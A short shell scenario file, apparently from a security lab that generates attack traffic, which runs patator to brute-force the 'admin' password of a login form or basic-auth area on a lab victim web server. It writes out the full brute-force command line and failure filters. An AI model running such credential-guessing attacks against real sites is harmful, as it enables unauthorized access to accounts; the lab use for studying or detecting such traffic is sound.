# SPDX-License-Identifier: MIT
# label: bruteforce-web
# source: lab-patator
# needs: patator nginx
# seconds: 60
# Passwords for a form or a private area by patator, on kept connections.
. $lab/victims.sh

servers() {
	victim_site c 80
	words_up "$(pick 100 300)"
}

scenario() {
	_tasks=$(choose 1 4 10)
	_kind=$(choose form basic)
	setting options "$_kind -t $_tasks"
	if [ "$_kind" = form ]; then
		set -- url=http://www.example.net/form/login method=POST \
			body='user=admin&pass=FILE0' -x ignore:fgrep='Login failed'
	else
		set -- url=http://www.example.net/private/ user_pass=admin:FILE0 -x ignore:code=401
	fi
	# It takes the end of its input for a key and prints without end.
	sleep 60 | attack v c tcp 80 -- timeout 50 patator http_fuzz \
		"resolve=www.example.net:$(addr c)" "$@" "0=$work/words" -t "$_tasks"
}
